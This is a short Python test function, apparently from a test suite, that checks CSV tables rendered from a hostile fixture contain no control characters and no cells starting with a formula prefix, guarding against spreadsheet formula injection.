def test_csv_tables_hostile_cells_cannot_be_formulas(hostile: dict[str, Any], table: str) -> None:
    text = render_csv(hostile, table)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)
    for row in csv_rows(text)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
